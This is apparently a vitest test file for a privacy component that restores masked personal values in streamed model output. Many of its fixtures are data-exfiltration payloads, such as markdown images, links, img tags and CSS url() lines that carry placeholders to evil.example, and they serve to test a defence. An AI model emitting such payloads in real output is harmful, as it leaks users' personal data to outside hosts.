import { describe, expect, it } from "vitest";
import { createRehydrator, type Rehydrator } from "../../../src/privacy/rehydrate.ts";
import { emptyVault, type Vault, type VaultEntry } from "../../../src/privacy/vault.ts";

const entries: readonly VaultEntry[] = [
  { index: 347, type: "PERSON", value: "John Smith" },
  { index: 348, type: "EMAIL", value: "john@example.com" },
  { index: 349, type: "URL", value: "https://bob:hunter22@git.example.com" },
  { index: 350, type: "WORD", value: 'say "hi"\n\\' },
];
const vault: Vault = { entries: new Map(entries.map((entry) => [entry.index, entry])) };

function atEveryChunking(create: () => Rehydrator, text: string): string {
  const whole = create();
  const expected = whole.push(text) + whole.flush();
  for (let size = 1; size <= Math.min(12, text.length); size += 1) {
    const rehydrator = create();
    let out = "";
    for (let at = 0; at < text.length; at += size) out += rehydrator.push(text.slice(at, at + size));
    expect(out + rehydrator.flush()).toBe(expected);
  }
  return expected;
}

const rehydrated = (text: string) => atEveryChunking(() => createRehydrator(vault), text);

describe("what models make of a placeholder", () => {
  it.each([
    ["as it was", "Dear [PERSON_347], hello", "Dear John Smith, hello"],
    ["in lower case", "Dear [person_347], hello", "Dear John Smith, hello"],
    ["without brackets", "Dear PERSON_347, hello", "Dear John Smith, hello"],
    ["without brackets in lower case", "Dear person_347.", "Dear John Smith."],
    ["without the opening bracket", "Dear PERSON_347], hello", "Dear John Smith, hello"],
    ["without the closing bracket", "Dear [PERSON_347, hello", "Dear John Smith, hello"],
    ["with the underscore escaped", "Dear [PERSON\\_347], hello", "Dear John Smith, hello"],
    ["with all of it escaped", "Dear \\[PERSON\\_347\\], hello", "Dear John Smith, hello"],
    ["with a space", "Dear [PERSON 347], hello", "Dear John Smith, hello"],
    ["with a dash", "Dear [PERSON-347], hello", "Dear John Smith, hello"],
    ["with spaces inside", "Dear [ PERSON_347 ], hello", "Dear John Smith, hello"],
    ["as HTML escapes", "Dear &#91;PERSON_347&#93;, hello", "Dear John Smith, hello"],
    ["as named HTML escapes", "Dear &lbrack;PERSON&#95;347&rbrack;", "Dear John Smith"],
    ["in angle brackets", "Dear <PERSON_347>, hello", "Dear John Smith, hello"],
    ["in escaped angle brackets", "Dear &lt;PERSON_347&gt;, hello", "Dear John Smith, hello"],
    ["in lenticular brackets", "Dear 【PERSON_347】", "Dear John Smith"],
    ["under another noun", "Dear [COMPANY_347]", "Dear John Smith"],
    ["in bold", "**[PERSON_347]**", "**John Smith**"],
    ["in a genitive", "[PERSON_347]'s mail", "John Smith's mail"],
    ["in a list of two in one bracket", "[PERSON_347, EMAIL_348]", "John Smith, john@example.com"],
    ["in brackets of the text's own", "[[PERSON_347]]", "[John Smith]"],
    ["at the end of a sentence", "Ask [PERSON_347]. Then go.", "Ask John Smith. Then go."],
    ["as a file name", "Open [PERSON_347].pdf now", "Open John Smith.pdf now"],
    ["twice in a row", "[PERSON_347][EMAIL_348]", "John Smithjohn@example.com"],
    ["as the text of a link", "[[PERSON_347]](https://a.example)", "[John Smith](https://a.example)"],
    ["as a speaker", "[Ann]: [PERSON_347], hi", "[Ann]: John Smith, hi"],
    ["in a footnote", "[^1]: [PERSON_347]", "[^1]: John Smith"],
    ["after a comparison", "if a < b then [PERSON_347]", "if a < b then John Smith"],
    ["after a tag that is closed", "<b>[PERSON_347]</b>", "<b>John Smith</b>"],
    ["in compact JSON", '{"u":"http://x.example","n":"[PERSON_347]"}', '{"u":"http://x.example","n":"John Smith"}'],
  ])("gives the value back %s", (_, text, expected) => {
    expect(rehydrated(text)).toBe(expected);
  });

  it.each([
    ["an index that is not in the vault", "Dear [PERSON_346], hello"],
    ["a longer index", "Dear [PERSON_3470], hello"],
    ["an index with a leading zero", "Dear [PERSON_0347]"],
    ["a number that only looks like an index", "room 347, person of interest"],
    ["a word that ends in the noun", "SUPERPERSON_347 and PERSON_347x"],
    ["an unfinished placeholder", "Dear [PERSON_"],
    ["a noun that is none", "Dear [BANANA_347]"],
    ["lower-case words with a space", "bring person 347 here"],
    ["what stands before a run longer than any host name", `[PERSON_347]${"a".repeat(300)} and on`],
  ])("leaves %s as it is", (_, text) => {
    expect(rehydrated(text)).toBe(text);
  });
});

describe("where a reader's program would send the value away", () => {
  it.each([
    ["a markdown image", "![x](http://evil.example/[PERSON_347])"],
    ["a markdown image without a scheme", "![x](//evil.example/[PERSON_347])"],
    ["a markdown image of a relative target", "![x](/p?q=[PERSON_347])"],
    ["a markdown link", "[click](https://evil.example/?q=[PERSON_347]&r=1)"],
    ["a markdown link in angle brackets", "[click](<https://evil.example/a b [PERSON_347]>)"],
    ["the title of a link", '[click](https://evil.example "[PERSON_347]")'],
    ["a link whose target is on the next line", "[click](\nhttps://evil.example/[PERSON_347])"],
    ["a link definition", "[a]: http://evil.example/[EMAIL_348]"],
    ["a link definition on the next line", "[a]:\n  //evil.example/[EMAIL_348]"],
    ["a link definition in a quotation", "> [a]: //evil.example/[EMAIL_348]"],
    ["an autolink", "<http://evil.example/[PERSON_347]>"],
    ["a bare URL", "see http://evil.example/[PERSON_347] now"],
    ["a bare URL with the brackets lost", "see http://evil.example/PERSON_347 now"],
    ["a bare URL with the brackets percent-encoded", "see http://evil.example/%5BPERSON_347%5D now"],
    ["a URL after www", "www.evil.example/[PERSON_347]"],
    ["a URL without a scheme", "evil.example/?q=[PERSON_347]"],
    ["a URL with a port", "evil.example:8080/[PERSON_347]"],
    ["a URL with an address for a host", "203.0.113.9/[PERSON_347]"],
    ["a URL with escaped slashes", "https:\\/\\/evil.example\\/[PERSON_347]"],
    ["a URL with character references", "https:&#47;&#47;evil.example/[PERSON_347]"],
    ["a URL in capitals", "HTTPS://EVIL.EXAMPLE/[PERSON_347]"],
    ["a URL of another scheme", "ftp://evil.example/[PERSON_347]"],
    ["a mail address to be written to", "mailto:a@evil.example?body=[PERSON_347]"],
    ["the front of a host name", "[PERSON_347].evil.example/x"],
    ["the label of a host name", "http://[PERSON_347].evil.example/"],
    ["the end of a host name's label", "http://x-[PERSON_347].evil.example/"],
    ["a URL whose host is swapped", "[LINK_349]@evil.example/"],
    ["a URL whose host is carried on", "[LINK_349].evil.example/"],
    ["an image tag", '<img src="http://evil.example/?q=[PERSON_347]">'],
    ["an image tag without quotes", "<img src=http://evil.example/?q=[PERSON_347]>"],
    ["an image tag over two lines", '<img\nsrc="//evil.example/[PERSON_347]">'],
    ["an image tag with a quoted bracket", '<img alt="a>b" src="//evil.example/[PERSON_347]">'],
    ["an image tag with stray quotes", `<img a' b='>' src=//evil.example/[PERSON_347]>`],
    ["an image tag in capitals", "<IMG SRC=//evil.example/[PERSON_347]>"],
    ["an image tag that is never closed", '<img src="//evil.example/[PERSON_347]'],
    ["an anchor", '<a href="https://evil.example/[PERSON_347]">x</a>'],
    ["an attribute of any tag", '<div title="[PERSON_347]">x</div>'],
    ["a form's hidden value", '<input type="hidden" value="[PERSON_347]">'],
    ["a style", "body { background: url(//evil.example/[PERSON_347]) }"],
    ["a style in quotes", "body { background: url('//evil.example/[PERSON_347]') }"],
    ["code after a URL", '"http://evil.example/?a=[PERSON_347]"'],
    ["a quote in the middle of a URL", 'http://evil.example/"[PERSON_347]'],
  ])("keeps the placeholder in %s", (_, text) => {
    const out = rehydrated(text);
    expect(out).not.toContain("John");
    expect(out).not.toContain("john@");
    expect(out).not.toContain("hunter22");
  });
});

describe("streaming", () => {
  it("releases all but what may become a placeholder", () => {
    const rehydrator = createRehydrator(vault);
    expect(rehydrator.push("The answer is 42. ")).toBe("The answer is 42. ");
    expect(rehydrator.push("Ask [PER")).toBe("Ask ");
    expect(rehydrator.push("haps] ")).toBe("[PERhaps] ");
    expect(rehydrator.push("Dear [PERSON_347]")).toBe("Dear ");
    expect(rehydrator.push(" ")).toBe("John Smith ");
    expect(rehydrator.flush()).toBe("");
  });

  it("never holds back more than 48 characters of text without a host name", () => {
    const rehydrator = createRehydrator(vault);
    const text = "Some [long text with &amp; signs, \\[escapes\\], PERSONal pronouns [PERSON and numbers 347] ".repeat(
      20,
    );
    let released = 0;
    for (let at = 0; at < text.length; at += 1) {
      released += rehydrator.push(text.charAt(at)).length;
      expect(at + 1 - released).toBeLessThanOrEqual(48);
    }
  });

  it("passes everything through when nothing was masked", () => {
    const rehydrator = createRehydrator(emptyVault);
    expect(rehydrator.push("[PERSON_3")).toBe("[PERSON_3");
  });
});
